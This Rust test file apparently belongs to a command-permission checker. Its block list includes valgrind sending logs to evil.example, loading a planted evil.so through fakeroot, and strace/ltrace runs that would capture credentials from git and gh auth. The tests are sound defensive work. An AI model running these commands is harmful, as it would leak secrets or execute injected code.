//! Launchers: options that write, load or run before the command that they start.

use super::*;

#[test]
fn launchers_know_only_their_own_options() {
    none_allowed(&[
        "hyperfine --export-json /home/ada/x ls",
        "hyperfine --export-csv=/home/ada/x ls",
        "hyperfine --export-json CLAUDE.md ls",
        "hyperfine ls --export-json /home/ada/x",
        "hyperfine --frob ls",
        "valgrind --log-socket=evil.example:1500 ./a",
        "valgrind --debuginfo-server=evil.example:1500 ./a",
        "valgrind --vgdb-prefix=/home/ada/x ./a",
        "valgrind --callgrind-out-file=/home/ada/x ./a",
        "perf report --objdump=/home/ada/evil",
        "perf annotate --objdump=./evil",
        "xvfb-run --frob npm test",
        "fakeroot -l ./evil.so make",
    ]);
    all(
        Decision::Allow,
        &[
            "hyperfine --export-json out.json -N -w 3 -r 10 ls",
            "hyperfine -i -u millisecond 'sleep 1'",
            "valgrind --leak-check=full --track-origins=yes ./a",
            "valgrind -q --error-exitcode=1 --tool=memcheck ./a",
            "nohup make test",
            "xvfb-run -a npm test",
        ],
    );
}

#[test]
fn tracers_that_show_data_do_not_trace_programs_with_credentials() {
    none_allowed(&[
        "strace -s 9999 gh auth status",
        "strace -f -s 9999 git fetch",
        "strace -fs9999 git status",
        "strace --string-limit=9999 git status",
        "strace -s 9999 bash -c 'git status'",
        "strace -e read=3 git status",
        "strace -e trace=read git status",
        "ltrace -s 9999 gh auth status",
    ]);
    all(
        Decision::Allow,
        &[
            "strace -f -e trace=openat ls",
            "strace ./a",
            "strace -s 200 ./a",
            "strace -f -e trace=openat git status",
        ],
    );
}
